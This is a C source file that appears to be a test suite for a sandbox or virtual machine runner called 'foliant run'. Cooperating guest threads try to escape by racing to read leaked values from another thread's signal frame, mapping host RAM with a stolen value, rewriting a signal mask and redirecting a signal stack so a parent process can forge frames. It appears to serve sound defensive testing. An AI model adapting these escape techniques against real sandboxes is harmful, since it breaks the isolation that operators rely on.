/*
 * Threads of one guest that work together to get out of it. Each attempt runs
 * in a child of its own; the parent prints what became of them. Only for
 * `foliant run`: it knows where the machine keeps its pages.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define STUB 0x6fffe0000000UL
#define SLOTS 0x6fffe8000000UL
#define SLOT_SIZE 0x8000UL
#define STACK_AT 0x1000UL
/* Words of a frame, counted from R8. */
#define RAX 13
#define RIP 16
#define MASK (296 / 8 - 5)
#define ALTSTACK (16 / 8 - 5)
#define MAGIC 0x5ca1ab1e0ddba11UL

/* What the parent hears, and whatever else both processes see. */
struct report {
	atomic_int leaked, deaf, moved, went_on, ready;
	_Alignas(4096) unsigned long page[8 * 512];
};

static struct report *report;
static sigjmp_buf back;
static atomic_ulong slot_of_victim, frame_of_victim;
static unsigned long trap_call, op_call;
static int pipe_ends[2];

static void on_fault(int signal)
{
	(void)signal;
	siglongjmp(back, 1);
}

static int is_readable(unsigned long at)
{
	if (sigsetjmp(back, 1))
		return 0;
	(void)*(volatile unsigned long *)at;
	return 1;
}

/* The stub's syscall instructions: the first traps, the second operates. */
static void find_calls(void)
{
	for (unsigned long at = STUB; at < STUB + 4095; at++) {
		const unsigned char *code = (const unsigned char *)at;

		if (code[0] != 0x0f || code[1] != 0x05)
			continue;
		if (!trap_call)
			trap_call = at;
		else if (!op_call)
			op_call = at;
	}
}

/* A call that always comes in with its registers, one of which is the magic. */
static long marked_call(void)
{
	register unsigned long magic asm("r8") = MAGIC;
	long result = SYS_sched_getscheduler;

	asm volatile("syscall" : "+a"(result) : "D"(0), "r"(magic) : "rcx", "r11", "memory");
	return result;
}

/* Finds a slot, not one of `known`, that shows the magic; and where in it. */
static void find_victim(const char *known)
{
	while (!frame_of_victim)
		for (unsigned n = 1; n < 64 && !frame_of_victim; n++) {
			unsigned long slot = SLOTS + n * SLOT_SIZE;

			if (known[n] || !is_readable(slot))
				continue;
			for (unsigned long at = slot + STACK_AT; at < slot + SLOT_SIZE; at += 8)
				if (*(volatile unsigned long *)at == MAGIC) {
					slot_of_victim = slot;
					frame_of_victim = at;
					break;
				}
		}
}

/* Maps the machine's RAM with what was stolen. */
static void use(unsigned long secret)
{
	unsigned long high = secret >> 32 << 32, low = secret >> 16 << 48;
	register unsigned long r8 asm("r8") = high;
	register unsigned long r9 asm("r9") = 0;
	register unsigned long r10 asm("r10") = MAP_SHARED | MAP_FIXED;
	register unsigned long r12 asm("r12") = 1;
	long nr = SYS_mmap;

	asm volatile("jmp *%1"
		     : "+a"(nr)
		     : "r"(op_call), "D"(0x700000), "S"(4096), "d"(3 | low), "r"(r8), "r"(r9), "r"(r10), "r"(r12), "b"(report->page)
		     : "rcx", "r11", "memory");
}

/* What a victim does: calls that leave its slot to be found, and for a while
 * after it was, until the other one looks. */
static void be_found(void)
{
	while (!frame_of_victim)
		marked_call();
	for (int i = 0; i < 2000; i++)
		marked_call();
}

/* Starts a victim and finds its frame. */
static volatile unsigned long *start(void *(*victim)(void *), pthread_t *thread)
{
	char known[64];

	for (unsigned n = 0; n < 64; n++)
		known[n] = is_readable(SLOTS + n * SLOT_SIZE);
	if (pthread_create(thread, NULL, victim, NULL))
		_exit(3);
	find_victim(known);
	return (unsigned long *)frame_of_victim;
}

/* The trap call with signals open and TF set: the answer would be in a frame. */
static void *single_step(void *unused)
{
	(void)unused;
	be_found();
	unsigned long ucontext = frame_of_victim - 40;

	/* By IRET the first instruction with TF set is the trap call itself. */
	asm volatile("mov %%rsp, %%rax\n mov %%ss, %%rcx\n push %%rcx\n push %%rax\n"
		     "pushfq\n orl $0x100, (%%rsp)\n mov %%cs, %%rcx\n push %%rcx\n push %0\n"
		     "mov $0x3ff, %%eax\n iretq"
		     : : "r"(trap_call), "D"(SIGSYS), "d"(ucontext) : "rax", "rcx", "memory");
	return NULL;
}

/* The same, hoping for a signal from another thread. */
static void *be_signalled(void *unused)
{
	(void)unused;
	be_found();
	unsigned long ucontext = frame_of_victim - 40;

	asm volatile("mov $0x3ff, %%eax\n jmp *%0"
		     : : "r"(trap_call), "D"(SIGSYS), "d"(ucontext) : "rax", "memory");
	return NULL;
}

static void steal(void *(*victim)(void *), int with_signals)
{
	pthread_t thread;
	volatile unsigned long *frame = start(victim, &thread);
	time_t end = time(NULL) + 2;

	/* So that the news costs no fault: there will be little time. */
	report->leaked = 0;
	for (unsigned long turn = 0; time(NULL) < end; turn++) {
		if (with_signals && turn % 64 == 0)
			pthread_kill(thread, SIGUSR1);
		for (int i = 0; i < 1000; i++) {
			unsigned long rip = frame[RIP], rax = frame[RAX];

			if (rip - STUB < 4096 && rax >> 32) {
				report->leaked = 1;
				use(rax);
			}
		}
	}
	_exit(4);
}

static void steal_by_single_step(void)
{
	steal(single_step, 0);
}

static void steal_by_signal(void)
{
	steal(be_signalled, 1);
}

static void note_signal(int signal)
{
	(void)signal;
	report->ready = 2;
}

/* Is interrupted in a call by a signal, and must not go on before its handler
 * ran: the machine brings it in by a signal of its own for that. */
static void *hard_of_hearing(void *unused)
{
	char byte;

	(void)unused;
	while (!frame_of_victim)
		marked_call();
	while (!report->deaf) {
		long result = SYS_read;

		marked_call();
		report->ready = 1;
		asm volatile("syscall" : "+a"(result) : "D"(pipe_ends[0]), "S"(&byte), "d"(1) : "rcx", "r11", "memory");
		if (report->ready == 1)
			report->deaf = 1;
	}
	return NULL;
}

/* Makes the victim block the machine's own signal, which is SIGUSR2. */
static void block_kicks(void)
{
	pthread_t thread;
	volatile unsigned long *frame;
	struct sigaction action = { .sa_handler = note_signal };
	time_t end = time(NULL) + 4;

	sigaction(SIGUSR1, &action, NULL);
	if (pipe(pipe_ends))
		_exit(3);
	frame = start(hard_of_hearing, &thread);
	while (!report->deaf && time(NULL) < end) {
		for (int i = 0; i < 2000; i++)
			frame[MASK] = 1UL << (SIGUSR2 - 1);
		if (report->ready == 1)
			pthread_kill(thread, SIGUSR1);
	}
	_exit(0);
}

/* Has its next frame written to memory that the parent shares. */
static void *on_borrowed_stack(void *unused)
{
	(void)unused;
	be_found();
	report->went_on = 1;
	return NULL;
}

static void move_signal_stack(void)
{
	pthread_t thread;
	volatile unsigned long *frame;

	memset(report->page, 0, sizeof report->page);
	frame = start(on_borrowed_stack, &thread);
	while (!report->went_on) {
		frame[ALTSTACK] = (unsigned long)report->page;
		frame[ALTSTACK + 2] = sizeof report->page;
	}
}

/* The parent rewrites whatever frame comes up in the shared memory. */
static void forge_frames(void)
{
	for (unsigned i = 0; i < sizeof report->page / 8; i++)
		if (report->page[i] == MAGIC) {
			report->moved = 1;
			report->page[i + RIP] = STUB;
		}
}

static void attempt(const char *name, void (*child)(void), int rounds, void (*meanwhile)(void))
{
	int foiled = 0, idle = 0;

	for (int i = 0; i < rounds; i++) {
		memset(report, 0, offsetof(struct report, page));
		pid_t pid = fork();
		int status = 0;

		if (!pid) {
			child();
			_exit(5);
		}
		while (waitpid(pid, &status, meanwhile ? WNOHANG : 0) != pid)
			if (meanwhile) {
				meanwhile();
				usleep(100);
			}
		/* Kernels do not move a stack that is in use: then nothing came of it. */
		foiled += WIFSIGNALED(status) ||
			  (report->went_on && !report->moved);
		idle += WIFEXITED(status) && !WEXITSTATUS(status);
		if (report->leaked || report->deaf || (report->moved && report->went_on))
			break;
	}
	printf("%s: foiled %d and idle %d of %d, leaked %d, deaf %d, moved %d\n", name, foiled, idle, rounds,
	       report->leaked, report->deaf, report->moved && report->went_on);
	fflush(stdout);
}

int main(void)
{
	struct sigaction action = { .sa_handler = on_fault, .sa_flags = SA_NODEFER };

	sigaction(SIGSEGV, &action, NULL);
	report = mmap(NULL, sizeof *report, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (report == MAP_FAILED || !is_readable(STUB))
		return 3;
	find_calls();
	attempt("single step", steal_by_single_step, 20, NULL);
	attempt("signals", steal_by_signal, 5, NULL);
	attempt("mask", block_kicks, 5, NULL);
	attempt("signal stack", move_signal_stack, 5, forge_frames);
	return 0;
}
